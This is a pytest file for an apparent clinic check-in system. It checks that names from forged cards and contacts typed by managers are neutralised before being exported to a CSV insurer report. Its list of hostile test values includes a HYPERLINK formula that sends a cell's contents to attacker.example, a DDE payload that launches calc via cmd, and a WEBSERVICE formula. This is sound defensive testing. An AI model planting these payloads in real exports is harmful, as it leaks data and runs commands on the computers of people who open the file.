"""CSV formula injection: a card whose chip holds a formula as the holder's name.

A revoked certificate is flagged with the chip's identity, so a forged card needs no
private key to put its name into the insurer report. The export must hand every such
cell to a spreadsheet as text.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from clinic_desk.checkin.stages import Stage
from clinic_desk.manager.export import csv_header
from clinic_desk.manager.review import CSV_COLUMNS, unlock_review
from clinic_desk.manager.spreadsheet import FORMULA_STARTS, neutralise_cell
from clinic_desk.scenarios.world import cards_dir
from offline_cache import OfflineCache
from reader.virtual_card.profile import CardProfile
from tests.hardening.checkin import check_in_with_pin
from tests.manager.support import PIN, FakeClock, set_pin

HOSTILE_NAMES = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"詳細")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+81 3 0000", "'+81 3 0000"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("山田 太郎", "山田 太郎"),
        ("2026-04-01T09:00:00Z", "2026-04-01T09:00:00Z"),
        ("a=b", "a=b"),
        ("'=quoted", "'=quoted"),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_a_formula(value: str, shown: str) -> None:
    assert neutralise_cell(value) == shown


def _hostile_cards() -> list[CardProfile]:
    # The revoked card of the shipped data (its certificate is on the revocation list),
    # with another name on its chip: what a forged card holds.
    revoked = CardProfile.load(cards_dir() / "ito-makoto.json")
    return [
        revoked.model_copy(update={"profile_id": f"hostile-{i}", "name": name})
        for i, name in enumerate(HOSTILE_NAMES)
    ]


async def test_hostile_names_from_a_card_reach_the_report_as_text(
    cache: OfflineCache, clock: FakeClock, tmp_path: Path
) -> None:
    ended = await check_in_with_pin(_hostile_cards(), cache)
    assert ended == [Stage.WITHHELD] * len(HOSTILE_NAMES)
    flags = cache.flags.find()
    assert sorted(f.reason for f in flags) == ["revoked_certificate"] * len(HOSTILE_NAMES)
    assert {f.card_identity["name"] for f in flags} == set(HOSTILE_NAMES)

    settings = set_pin(PIN).manager
    session = unlock_review(cache, settings, PIN, now=clock).session
    assert session is not None
    target = tmp_path / "report.csv"
    assert session.export_csv(target, lang="ja") == len(HOSTILE_NAMES)

    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == csv_header("ja")  # the header in the report's language
    names = [row[CSV_COLUMNS.index("card_name")] for row in rows[1:]]
    assert sorted(names) == sorted("'" + name for name in HOSTILE_NAMES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


async def test_a_manager_typed_contact_is_neutralised_too(
    cache: OfflineCache, clock: FakeClock, tmp_path: Path
) -> None:
    await check_in_with_pin(_hostile_cards()[:1], cache)
    settings = set_pin(PIN).manager
    session = unlock_review(cache, settings, PIN, now=clock).session
    assert session is not None
    (flag,) = cache.flags.find()
    session.mark_reported(flag.id, reported_on=clock().date(), contact="=WEBSERVICE(A1)")
    target = tmp_path / "reported.csv"
    session.export_csv(target, statuses=[flag.status.REPORTED], lang="en")
    with target.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["insurer_contact"] == "'=WEBSERVICE(A1)"
    assert row["card_name"] == "'" + HOSTILE_NAMES[0]
